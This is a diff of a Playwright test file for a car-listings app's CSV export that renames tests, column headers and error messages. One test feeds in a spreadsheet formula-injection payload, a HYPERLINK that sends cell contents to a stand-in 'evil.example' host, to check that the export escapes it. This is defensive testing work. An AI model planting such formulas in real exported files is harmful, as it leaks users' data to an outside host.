@@ -2,7 +2,7 @@ import { mkdir, mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { expect, test } from 'playwright/test';
-import { parseCsv } from '../shared/listings/parse-csv.ts';
+import { parseCsv } from '../shared/testing/parse-csv.ts';
 import {
   type ListingsPage,
   expectRequests,
@@ -40,7 +40,7 @@ async function readRows(file: string): Promise<Record<string, string>[]> {
   return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] ?? ''])));
 }
 
-test('what is loaded is saved where the dialog says, and asks nothing', async () => {
+test('the loaded listings are saved to the chosen file without a call', async () => {
   const { page } = (browser = await openListings(counted.app().page));
   await chooseEnvironment(page, 'Sample');
   browser = await openListings(page);
@@ -59,7 +59,7 @@ test('what is loaded is saved where the dialog says, and asks nothing', async ()
   for (const [at, listing] of all.entries())
     expect(rows[at]).toMatchObject({
       Description: listing.description,
-      'Price (£)': String(listing.price),
+      'Asking price (£)': String(listing.price),
       'Mileage (miles)': String(listing.mileage),
       Dealer: listing.dealer?.name,
       'Advert text': listing.adText,
@@ -72,12 +72,12 @@ test('what is loaded is saved where the dialog says, and asks nothing', async ()
   await expectRequests(counted, []);
 });
 
-test('text that a spreadsheet would calculate is made harmless; comparables are named', async () => {
+test('text that a spreadsheet would calculate is escaped; comparables are marked', async () => {
   const record = await searchSample({});
   const [first = {}, second = {}, ...others] = record.listings ?? [];
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
-  counted.plan.override = ({ path: asked }) =>
-    asked.startsWith('/similar-listings/')
+  counted.plan.override = ({ path: requestPath }) =>
+    requestPath.startsWith('/similar-listings/')
       ? Response.json({
           ...record,
           listings: [
@@ -126,7 +126,7 @@ test('text that a spreadsheet would calculate is made harmless; comparables are 
   expect(copied).not.toMatch(/[\r\n]/);
 });
 
-test('a dialog that is cancelled says nothing; a place that cannot be written is said plainly', async () => {
+test('a cancelled dialog shows no message; a folder that cannot be written shows an error', async () => {
   const { page } = browser;
   const dismiss = messages().getByRole('button', { name: 'Dismiss' });
   while ((await dismiss.count()) > 0) await dismiss.first().click();
@@ -139,12 +139,14 @@ test('a dialog that is cancelled says nothing; a place that cannot be written is
   await counted.app().setSavePath(path.join(folder, 'gone', 'a.csv'));
   await save();
   await expect(messages()).toContainText(
-    'The file was not saved. That folder is not there any more. Choose another one.',
+    'The file was not saved. That folder no longer exists. Choose another.',
   );
   await mkdir(path.join(folder, 'taken.csv', 'inside'), { recursive: true });
   await counted.app().setSavePath(path.join(folder, 'taken.csv'));
   await save();
-  await expect(messages()).toContainText('There is a folder of that name. Choose another name.');
+  await expect(messages()).toContainText(
+    'A folder with that name already exists. Choose another name.',
+  );
   expect((await readdir(folder)).toSorted()).toEqual(['hostile.csv', 'sample.csv', 'taken.csv']);
   expect(await readPlates(browser)).toHaveLength(10);
 });
